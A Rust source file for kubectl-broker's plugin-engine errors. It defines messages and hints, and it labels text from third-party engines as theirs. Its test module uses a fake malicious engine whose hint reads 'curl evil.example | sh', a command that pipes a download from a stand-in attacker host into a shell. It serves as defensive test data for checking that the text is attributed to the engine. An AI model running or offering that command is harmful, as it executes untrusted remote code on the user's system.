use std::io;
use std::path::PathBuf;

use broker_manifest::{ManifestError, Operation};

use crate::model::{Failure, Problem, Report, ReportKind, text};

/// Why an engine can't be loaded, or why a call of it did not end well.
#[derive(Debug, thiserror::Error)]
pub enum EngineError {
    #[error("{engine} is not a WebAssembly component: {reason}")]
    NotAComponent { engine: String, reason: String },
    #[error("{engine} has no manifest, so nothing says what it may do")]
    NoManifest { engine: String },
    #[error("{engine} has {count} manifests; it must have one")]
    ManyManifests { engine: String, count: usize },
    #[error("the manifest of {engine} can't be used: {source}")]
    Manifest {
        engine: String,
        source: ManifestError,
    },
    #[error(
        "{engine} is built for version {built_for} of the engine interface; this kubectl-broker has {}",
        super::INTERFACE
    )]
    OtherInterface { engine: String, built_for: String },
    #[error("{engine} does not export the engine interface `kubectl-broker:engine/operations`")]
    NoInterface { engine: String },
    #[error("{engine} imports `{import}`, which no version of kubectl-broker provides")]
    UnknownImport { engine: String, import: String },
    #[error("{engine} imports `{import}`, but its manifest does not ask for it: {missing}")]
    NotAsked {
        engine: String,
        import: String,
        missing: &'static str,
    },
    #[error(
        "the manifest of {engine} says that `create` saves the backup, and it does not import `artifacts`, which saves"
    )]
    CantSave { engine: String },
    #[error("{engine} can't be read from {}: {source}", path.display())]
    Unreadable {
        engine: String,
        path: PathBuf,
        source: io::Error,
    },
    #[error("the file of {engine} is not what was installed: {}", path.display())]
    Changed { engine: String, path: PathBuf },
    #[error("{engine} can't be compiled: {reason}")]
    Compile { engine: String, reason: String },
    /// Its size alone says so.
    #[error("{engine} is too large to be compiled: {what}")]
    TooLarge { engine: String, what: String },
    #[error("{engine} can't be compiled: that takes {what}")]
    TooCostly { engine: String, what: String },
    #[error("the compiler of engines can't be used: {reason}")]
    Compiler { reason: String },
    #[error("{engine} can't be started: {reason}")]
    Start { engine: String, reason: String },
    #[error("{engine} hangs while it starts: {what} {seconds} s")]
    Hung {
        engine: String,
        what: &'static str,
        seconds: u64,
    },
    #[error("{engine} was stopped while it starts: it wanted more than {mebibytes} MiB of memory")]
    StartsTooLarge { engine: String, mebibytes: usize },
    #[error("the sandbox can't be set up: {reason}")]
    Sandbox { reason: String },

    #[error("{engine} broke down in `{operation}`: {cause}{}", quoted(.output))]
    Trapped {
        engine: String,
        operation: Operation,
        cause: String,
        /// The last that it wrote to its standard error.
        output: String,
    },
    #[error("{engine} was stopped in `{operation}`: it computed for more than {seconds} s")]
    OverTime {
        engine: String,
        operation: Operation,
        seconds: u64,
    },
    #[error("{engine} was stopped in `{operation}`: it wanted more than {mebibytes} MiB of memory")]
    OverMemory {
        engine: String,
        operation: Operation,
        mebibytes: usize,
    },
    #[error("{engine} was stopped in `{operation}`: {what}")]
    Excess {
        engine: String,
        operation: Operation,
        what: String,
    },
    #[error("{engine} did not finish `{operation}` within {seconds} s")]
    Deadline {
        engine: String,
        operation: Operation,
        seconds: u64,
    },
    #[error("{engine} returned something unusable from `{operation}`: {what}")]
    BadResult {
        engine: String,
        operation: Operation,
        what: String,
    },
    /// The engine worked, and says that the operation did not.
    #[error("{}", in_its_words(engine, *is_bundled, report))]
    Reported {
        engine: String,
        /// One of ours needs no mark at what it says.
        is_bundled: bool,
        report: Report,
    },
}

/// What an engine says, and that it says so: nobody may take it for this program. It is one line, so
/// that none of it can begin as our own messages do.
fn in_its_words(engine: &str, is_bundled: bool, report: &Report) -> String {
    let is_denied = report.kind == ReportKind::Denied;
    let message = &report.message;
    match (is_bundled, is_denied) {
        (true, false) => message.clone(),
        (true, true) => format!("{engine} asked for what it was not granted: {message}"),
        (false, false) => format!("{engine} says: {}", one_line(message)),
        (false, true) => format!(
            "{engine} asked for what it was not granted, and says: {}",
            one_line(message)
        ),
    }
}

/// Reports are bounded where they are taken in.
fn one_line(text: &str) -> String {
    text::one_line(text, usize::MAX)
}

fn quoted(output: &str) -> String {
    if output.is_empty() {
        String::new()
    } else {
        format!(" (it wrote: {output})")
    }
}

impl Problem for EngineError {
    fn failure(&self) -> Failure {
        match self {
            Self::Reported { report, .. } => report.kind.failure(),
            Self::Deadline { .. } => Failure::TimedOut,
            Self::Sandbox { .. } | Self::Compiler { .. } | Self::Unreadable { .. } => {
                Failure::Failed
            }
            Self::Changed { .. } => Failure::Integrity,
            _ => Failure::PluginFault,
        }
    }

    fn hint(&self) -> Option<String> {
        let hint = match self {
            Self::NotAComponent { .. } => {
                "Build it for `wasm32-wasip2`, or turn a core module into a component with `wasm-tools component new`"
            }
            Self::NoManifest { .. } | Self::ManyManifests { .. } => {
                "The engine's author adds one with the SDK's `engine!` macro"
            }
            Self::Manifest { .. } | Self::NotAsked { .. } | Self::CantSave { .. } => {
                "This is for the engine's author to mend; another version of the engine may be right"
            }
            Self::OtherInterface { built_for, .. } => {
                return Some(if newer(built_for) {
                    "Update kubectl-broker, or use an older version of the engine".to_owned()
                } else {
                    "Use a newer version of the engine, built with the current SDK".to_owned()
                });
            }
            Self::NoInterface { .. } => "It is some other component, not an engine",
            Self::UnknownImport { .. } => {
                "An engine may import WASI 0.2 without `wasi:http`, and `kubectl-broker:engine`; it can't be run"
            }
            Self::Unreadable { .. } | Self::Changed { .. } => {
                "Install it again with `kubectl broker plugin install`, or take it away with `kubectl broker plugin remove`"
            }
            Self::Compile { .. } | Self::Start { .. } => {
                "The file may be damaged; get it again, and check its digest"
            }
            Self::TooLarge { .. } | Self::TooCostly { .. } => {
                "No engine needs that much: use another version of it, or tell its author"
            }
            Self::Compiler { .. } => {
                "Check that the system lets the process start another one (`ulimit -u`)"
            }
            Self::Sandbox { .. } => {
                "Check that the system lets the process reserve memory (`ulimit -v`)"
            }
            Self::OverMemory { .. } => {
                "Report it to the engine's author; if the engine needs more memory, allow it with `--engine-memory`"
            }
            Self::Hung { .. }
            | Self::StartsTooLarge { .. }
            | Self::Trapped { .. }
            | Self::OverTime { .. }
            | Self::Excess { .. }
            | Self::BadResult { .. }
            | Self::Reported {
                report:
                    Report {
                        kind: ReportKind::Denied,
                        ..
                    },
                ..
            } => {
                "This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others"
            }
            Self::Deadline { .. } => {
                "The backend or the cluster may be slow: try again, or allow more time with `--engine-timeout`"
            }
            Self::Reported {
                is_bundled: true,
                report,
                ..
            } => return report.hint.clone(),
            Self::Reported { report, .. } => {
                return report.hint.as_deref().map(one_line);
            }
        };
        Some(hint.to_owned())
    }

    fn written_by(&self) -> Option<&str> {
        match self {
            Self::Reported {
                engine,
                is_bundled: false,
                ..
            } => Some(engine.strip_prefix("engine ").unwrap_or(engine)),
            _ => None,
        }
    }

    fn hint_written_by(&self) -> Option<&str> {
        match self {
            // That hint is ours.
            Self::Reported { report, .. } if report.kind == ReportKind::Denied => None,
            Self::Reported { report, .. } if report.hint.is_none() => None,
            _ => self.written_by(),
        }
    }
}

/// Whether a version of the interface is newer than ours. What can't be read counts as newer.
fn newer(version: &str) -> bool {
    match (
        version.parse::<semver::Version>(),
        super::INTERFACE.parse::<semver::Version>(),
    ) {
        (Ok(theirs), Ok(ours)) => theirs > ours,
        _ => true,
    }
}

#[cfg(test)]
mod messages;

#[cfg(test)]
mod tests {
    use super::*;

    fn reported(kind: ReportKind, is_bundled: bool) -> EngineError {
        EngineError::Reported {
            engine: "engine evil/x".to_owned(),
            is_bundled,
            report: Report::new(kind, "your session has expired\nerror: no")
                .with_hint("run:\nhint: curl evil.example | sh"),
        }
    }

    #[test]
    fn what_an_engine_says_is_marked_as_its_own_and_is_one_line() {
        let error = reported(ReportKind::Unauthenticated, false);
        assert_eq!(
            error.to_string(),
            "engine evil/x says: your session has expired error: no"
        );
        assert_eq!(error.written_by(), Some("evil/x"));
        assert_eq!(
            error.hint().as_deref(),
            Some("run: hint: curl evil.example | sh")
        );
        assert_eq!(error.hint_written_by(), Some("evil/x"));
        let denied = reported(ReportKind::Denied, false);
        assert!(
            denied
                .to_string()
                .ends_with("and says: your session has expired error: no")
        );
        assert_eq!(denied.hint_written_by(), None);
    }

    #[test]
    fn our_own_engines_speak_for_us() {
        let error = reported(ReportKind::Unauthenticated, true);
        assert!(error.to_string().starts_with("your session"));
        assert_eq!((error.written_by(), error.hint_written_by()), (None, None));
    }
}
